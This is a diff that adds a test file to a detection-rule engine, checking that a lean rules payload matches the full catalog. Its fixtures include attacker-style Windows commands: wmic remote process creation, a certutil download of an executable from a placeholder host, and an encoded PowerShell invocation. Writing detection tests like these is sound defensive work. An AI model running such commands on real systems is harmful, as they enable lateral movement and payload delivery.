@@ -1,0 +1,29 @@
+import { describe, expect, it } from "vitest"
+
+import { loadCatalog } from "../catalog/load.node.ts"
+import { buildProcessEvents } from "./event.ts"
+import { compileCatalog, matchEvent, type MatchReport } from "./match.ts"
+import { fromTesterRules, testerRules } from "./rules-data.ts"
+
+/** Paths are dropped from the lean payload; compare everything else. */
+const strip = (r: MatchReport) => JSON.parse(JSON.stringify(r, (k, v) => (k === "path" ? undefined : v))) as unknown
+
+describe("tester rules payload", () => {
+  const detections = loadCatalog().detections
+  const rows = testerRules(detections)
+  const full = compileCatalog(detections)
+  const lean = compileCatalog(fromTesterRules(JSON.parse(JSON.stringify(rows))))
+
+  it("gives the same report as the full catalog", () => {
+    for (const cmd of ["wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami\"", "certutil -urlcache -f http://x/a.exe a.exe", "powershell -enc AAAA"]) {
+      const built = buildProcessEvents({ cmd, parent: "cmd.exe", user: "bob", host: "ws1" })
+      expect(strip(matchEvent(lean, { built }))).toEqual(strip(matchEvent(full, { built })))
+    }
+  })
+
+  it("stays lean: no rule text travels", () => {
+    const json = JSON.stringify(rows)
+    expect(json).not.toContain("how_to_implement")
+    for (const r of rows) expect(r.analysis?.expanded.length ?? 0).toBeLessThan(12)
+  })
+})
